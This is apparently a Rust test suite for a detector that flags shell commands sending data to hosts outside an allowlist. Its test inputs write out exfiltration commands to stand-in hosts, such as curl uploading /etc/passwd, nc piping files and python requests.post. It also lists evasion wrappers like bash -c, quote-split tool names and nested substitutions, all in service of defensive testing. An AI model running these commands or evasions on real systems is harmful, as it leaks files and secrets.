use super::*;

fn up(cmd: &str) -> CommandVerdict {
    check_command(
        cmd,
        &NetworkOptions::with_allowed_hosts(["data.internal", "s3://team-bucket", "rclone:backup"]),
    )
}

/// One case of `testdata/commands*.jsonl`.
#[derive(serde::Deserialize)]
struct Case {
    name: String,
    command: String,
    #[serde(default)]
    allowed_hosts: Option<Vec<String>>,
    #[serde(default)]
    any_host: bool,
    /// Expected: `null` for no upload, or the destination string.
    expected: Option<String>,
    #[allow(dead_code)] // documentation for humans reading the corpus
    note: String,
}

fn run_corpus(file: &str, text: &str) {
    let mut failures = Vec::new();
    for (i, line) in text.lines().enumerate() {
        if line.trim().is_empty() {
            continue;
        }
        let case: Case = serde_json::from_str(line)
            .unwrap_or_else(|e| panic!("{file}:{}: bad case: {e}", i + 1));
        let mut opts =
            NetworkOptions::with_allowed_hosts(case.allowed_hosts.clone().unwrap_or_else(|| {
                vec![
                    "data.internal".into(),
                    "s3://team-bucket".into(),
                    "rclone:backup".into(),
                ]
            }));
        if case.any_host {
            opts.match_mode = MatchMode::AnyHost;
        }
        let v = check_command(&case.command, &opts);
        let got = v.findings.first().map(|f| f.destination.to_string());
        if got != case.expected {
            failures.push(format!(
                "{file}:{} `{}`: expected {:?}, got {:?} ({:?})\n  repro: check_command({:?}, …)",
                i + 1,
                case.name,
                case.expected,
                got,
                v,
                case.command
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn corpus_uploads() {
    run_corpus(
        "commands_upload.jsonl",
        include_str!("../../testdata/commands_upload.jsonl"),
    );
}

#[test]
fn corpus_benign() {
    run_corpus(
        "commands_benign.jsonl",
        include_str!("../../testdata/commands_benign.jsonl"),
    );
}

#[test]
fn unparseable_network_command_says_so() {
    let v = up("curl -d \"unterminated https://x.example");
    assert!(v.is_upload());
    let v = up("echo 'unterminated");
    assert!(!v.is_upload());
    assert!(!v.problems.is_empty());
}

#[test]
fn allowlist_semantics() {
    let o = NetworkOptions::with_allowed_hosts(["example.com", "10.0.0.5", "[::2]"]);
    assert!(o.host_allowed("EXAMPLE.com."));
    assert!(o.host_allowed("a.b.example.com:8443"));
    assert!(!o.host_allowed("badexample.com"));
    assert!(o.host_allowed("10.0.0.5:22"));
    assert!(o.host_allowed("[::2]:443"));
    // A backslash ends the authority: the host is the part before it.
    assert!(!o.host_allowed("evil.example\\@example.com"));
    let ranges =
        NetworkOptions::with_allowed_hosts(["192.168.0.0/16", "2001:db8::/32", "0.0.0.0/0"]);
    assert!(ranges.host_allowed("192.168.7.7"));
    assert!(
        ranges.host_allowed("8.8.8.8"),
        "/0 allows every IPv4 address"
    );
    assert!(ranges.host_allowed("[2001:db8:1::5]:443"));
    assert!(!ranges.host_allowed("2001:db9::1"));
    assert!(
        !ranges.host_allowed("example.com"),
        "a range never matches a name"
    );
    let strict = NetworkOptions {
        loopback_is_local: false,
        ..NetworkOptions::default()
    };
    assert!(!strict.host_allowed("127.0.0.1"));
}

#[test]
fn types_are_send_and_sync() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<CommandVerdict>();
    assert_send_sync::<NetworkOptions>();
}

/// 120 KB of nested unclosed `$(` (the seed's own adversarial shape): the
/// parser reads it once, keeps the outer `curl -d` upload and reports the
/// nesting it could not follow instead of rescanning the rest per level.
#[test]
fn nested_unclosed_substitutions_120k() {
    let flood = "$(x ".repeat(30 * 1024);
    for cmd in [
        format!("curl -d \"{flood}\" https://drop.example/in"),
        format!("curl -d {flood}"),
        format!("bash -c \"{}\"", "bash -c '$(x ".repeat(10 * 1024)),
    ] {
        assert!(cmd.len() >= 100 * 1024);
        let v = up(&cmd);
        assert!(
            v.problems.iter().any(|p| p.contains("unterminated")),
            "{:?}",
            &v.problems
        );
        // One report per open level plus the depth limit, not one per `$(`.
        assert!(v.problems.len() <= 64, "{} problems", v.problems.len());
        assert!(v.is_upload() || cmd.starts_with("bash"), "{v:?}");
    }
    let v = up(&format!("curl -d \"{flood}\" https://drop.example/in"));
    assert!(v.problems.iter().any(|p| p == "nesting too deep"));
    // A closed, deep substitution still reaches the command inside.
    let deep = format!(
        "echo {}$(curl -T /etc/passwd https://deep.example{}",
        "$(echo ".repeat(5),
        ")".repeat(6)
    );
    assert_eq!(
        up(&deep).findings[0].destination.to_string(),
        "deep.example"
    );
}

#[test]
fn substitutions_are_parsed_in_place() {
    // A subshell inside `$(…)` does not close it early.
    let v = up("echo $( (cd /tmp; ls) ; curl -T x https://in.example ) done");
    assert_eq!(v.findings[0].destination.to_string(), "in.example");
    // Assignments inside a substitution do not leak out of it.
    let v = up("U=https://data.internal; echo $(U=https://evil.example); curl -d @f $U");
    assert!(!v.is_upload(), "{v:?}");
    let v = up("U=https://data.internal; echo `U=https://evil.example`; curl -d @f $U");
    assert!(!v.is_upload(), "{v:?}");
    // … but they are visible inside it.
    let v = up("echo $(U=https://evil.example; curl -d @f $U)");
    assert_eq!(v.findings[0].destination.to_string(), "evil.example");
    // Process substitution is parsed the same way.
    let v = up("diff <(curl -T a https://p.example) b");
    assert_eq!(v.findings[0].destination.to_string(), "p.example");
}

#[test]
fn variable_expansion_is_budgeted() {
    let long = "a".repeat(64 * 1024);
    let cmd = format!("A={long}; echo {}", "$A ".repeat(4096));
    let v = up(&cmd);
    assert!(v
        .problems
        .iter()
        .any(|p| p == "variable expansion budget exhausted"));
    // Small expansions are unaffected.
    let v = up("H=https://evil.example; for i in 1 2; do curl -d @f $H; done");
    assert!(v.is_upload());
}

mod invariants {
    //! Metamorphic properties: wrapping a command in the usual evasions
    //! (wrappers, `bash -c`, quote splits, chains, substitutions) never
    //! changes whether it is flagged, nor where the data goes.
    use super::*;
    use proptest::prelude::*;

    const UPLOADS: &[&str] = &[
        "curl -sS -d @{f} https://{h}/in",
        "curl -F file=@{f} https://{h}/up",
        "wget --post-file={f} https://{h}/",
        "scp {f} user@{h}:/tmp/",
        "rsync -az {f} {h}:/backup/",
        "tar cz {f} | ssh {h} 'cat > x.tgz'",
        "nc {h} 4444 < {f}",
        "git push https://{h}/r.git main",
        "python3 -c \"import requests; requests.post('https://{h}/', data=open('{f}').read())\"",
        "http POST https://{h}/api < {f}",
    ];
    const BENIGN: &[&str] = &[
        "curl -fsSL https://{h}/install.sh -o install.sh",
        "wget https://{h}/{f}",
        "git clone https://{h}/org/repo.git",
        "scp {h}:/var/log/{f} ./",
        "cp {f} /tmp/backup/",
        "ssh {h} uptime",
        "grep -n 'curl -d @{f} https://{h}' notes.md",
    ];
    const WRAPPERS: &[&str] = &[
        "{c}",
        "sudo -u deploy {c}",
        "env A=1 B=2 {c}",
        "nohup {c}",
        "timeout 30 {c}",
        "nice -n 5 {c}",
        "command {c}",
        "cd /work && {c}",
        "{c}; echo done",
        "true || {c}",
        "( {c} )",
        "echo $( {c} )",
        "bash -c \"{c}\"",
        "sh -c \"{c}\"",
    ];

    fn host() -> impl Strategy<Value = String> {
        prop_oneof![
            "[a-z]{3,8}\\.(example|test|invalid)".prop_map(|s| s),
            (1u8..=223, 0u8..=255, 0u8..=255, 1u8..=254)
                .prop_filter("not loopback", |(a, ..)| *a != 127 && *a != 0)
                .prop_map(|(a, b, c, d)| format!("{a}.{b}.{c}.{d}")),
        ]
    }

    fn fill(t: &str, h: &str, f: &str) -> String {
        t.replace("{h}", h).replace("{f}", f)
    }

    /// Escape for the inside of a double-quoted `bash -c "…"`.
    fn wrap(w: &str, c: &str) -> String {
        if w.contains("\"{c}\"") {
            let escaped = c
                .replace('\\', "\\\\")
                .replace('"', "\\\"")
                .replace('$', "\\$");
            w.replace("{c}", &escaped)
        } else {
            w.replace("{c}", c)
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn wrapped_uploads_stay_flagged(
            t in 0..UPLOADS.len(),
            w in 0..WRAPPERS.len(),
            h in host(),
            f in "[a-z]{1,8}\\.(csv|sql|env|tgz)",
        ) {
            let opts = NetworkOptions::with_allowed_hosts(["data.internal"]);
            let cmd = wrap(WRAPPERS[w], &fill(UPLOADS[t], &h, &f));
            let v = check_command(&cmd, &opts);
            prop_assert!(v.is_upload(), "{cmd:?}: {v:?}");
            prop_assert_eq!(v.findings[0].destination.to_string(), h.clone(), "{:?}", cmd);
            // The same command to an allowed subdomain is quiet.
            let allowed = wrap(WRAPPERS[w], &fill(UPLOADS[t], "files.data.internal", &f));
            let v = check_command(&allowed, &opts);
            prop_assert!(!v.is_upload(), "{allowed:?}: {v:?}");
        }

        #[test]
        fn wrapped_benign_commands_stay_quiet(
            t in 0..BENIGN.len(),
            w in 0..WRAPPERS.len(),
            h in host(),
            f in "[a-z]{1,8}\\.(csv|txt|tgz)",
        ) {
            let cmd = wrap(WRAPPERS[w], &fill(BENIGN[t], &h, &f));
            let v = check_command(&cmd, &NetworkOptions::default());
            prop_assert!(!v.is_upload(), "{cmd:?}: {v:?}");
        }

        #[test]
        fn quote_splits_of_the_tool_name_do_not_hide_it(
            h in host(),
            cut in 1usize..4,
            style in 0usize..4,
        ) {
            let (a, b) = "curl".split_at(cut);
            let name = match style {
                0 => format!("{a}''{b}"),
                1 => format!("{a}\"\"{b}"),
                2 => format!("{a}\\{b}"),
                _ => format!("\"{a}\"'{b}'"),
            };
            let cmd = format!("{name} -T dump.sql https://{h}/");
            let v = check_command(&cmd, &NetworkOptions::default());
            prop_assert_eq!(v.findings.first().map(|f| f.destination.to_string()), Some(h));
        }

        #[test]
        fn any_input_is_total(s in "[ -~\\n\\t“”「」]{0,200}") {
            // Never panics; a verdict whose findings all have a reason.
            let v = check_command(&s, &NetworkOptions::default());
            prop_assert!(v.findings.iter().all(|f| !f.reason.is_empty()));
        }
    }
}
